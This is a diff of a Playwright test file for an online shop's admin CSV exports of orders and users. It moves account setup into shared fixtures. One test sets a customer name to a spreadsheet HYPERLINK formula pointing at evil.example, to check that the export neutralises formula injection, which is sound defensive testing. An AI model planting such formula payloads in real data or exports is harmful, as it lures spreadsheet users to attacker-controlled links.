@@ -1,26 +1,16 @@
 import { readFile } from 'node:fs/promises';
-import { expect, test, type Download } from '@playwright/test';
+import { expect, fileActors, fileTag, test, type Download } from './support/fixtures';
 import mongoose from 'mongoose';
 import { lastShopDays } from '../lib/dates';
 import { fieldMessages } from '../lib/texts';
 import { parseCsv } from '../test/csv';
-import { createAccount, logIn, uniqueIp } from './support/accounts';
-import { createActor, disposeActors, removePublicRecords, runTag, testDb, type Actor } from './support/api-actors';
+import { testDb, uniqueIp } from './support/database';
 
 // Exports (docs/admin.md, "Exports"): orders and users as CSV files a spreadsheet opens cleanly, for admins only.
 test.use({ extraHTTPHeaders: { 'x-forwarded-for': uniqueIp() } });
 
-let tag: string;
-let apiAdmin: Actor;
-let apiCustomer: Actor;
-test.beforeAll(async () => {
-  tag = runTag();
-  [apiAdmin, apiCustomer] = await Promise.all([createActor(tag, 'accountant', 'admin'), createActor(tag, 'shopper')]);
-});
-test.afterAll(async () => {
-  await disposeActors(apiAdmin, apiCustomer);
-  await removePublicRecords(tag);
-});
+const tag = fileTag();
+const { apiAdmin, apiCustomer } = fileActors(tag, { apiAdmin: ['accountant', 'admin'], apiCustomer: ['shopper'] });
 
 /** A downloaded file as a spreadsheet reads it: the first three bytes, and the rows. */
 async function openDownload(download: Download) {
@@ -28,7 +18,7 @@ async function openDownload(download: Download) {
   return { bom: [...bytes.subarray(0, 3)], rows: parseCsv(bytes.subarray(3).toString('utf8')) };
 }
 
-test('Placed Orders downloads the orders of a date range and status as CSV; a formula-like name stays text', async ({ page }) => {
+test('Placed Orders downloads the orders of a date range and status as CSV; a formula-like name stays text', async ({ page, signedIn }) => {
   // Twenty days ago (Dhaka), where no other test places orders.
   const day = lastShopDays(30, new Date()).days[9]!;
   const formulaName = `=HYPERLINK("http://evil.example/${tag}","Refund")`;
@@ -52,8 +42,7 @@ test('Placed Orders downloads the orders of a date range and status as CSV; a fo
     updatedAt: placed,
   });
 
-  const admin = await createAccount({ name: 'Export Admin', role: 'admin' });
-  await logIn(page, admin.email, admin.password);
+  await signedIn({ name: 'Export Admin', role: 'admin' });
   await page.goto('/dashboard/confirmorder');
   await page.getByLabel('Placed from').fill(day.key);
   await page.getByLabel('Placed to').fill(day.key);
@@ -74,9 +63,8 @@ test('Placed Orders downloads the orders of a date range and status as CSV; a fo
   expect(rows.slice(1).every((row) => row[3] === 'paid')).toBe(true);
 });
 
-test('All Users downloads every account as CSV', async ({ page }) => {
-  const admin = await createAccount({ name: 'Roster Admin', role: 'admin' });
-  await logIn(page, admin.email, admin.password);
+test('All Users downloads every account as CSV', async ({ page, signedIn }) => {
+  const admin = await signedIn({ name: 'Roster Admin', role: 'admin' });
   await page.goto('/dashboard/users');
   const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Download users as CSV' }).click()]);
   expect(download.suggestedFilename()).toMatch(/^users-\d{4}-\d{2}-\d{2}\.csv$/);
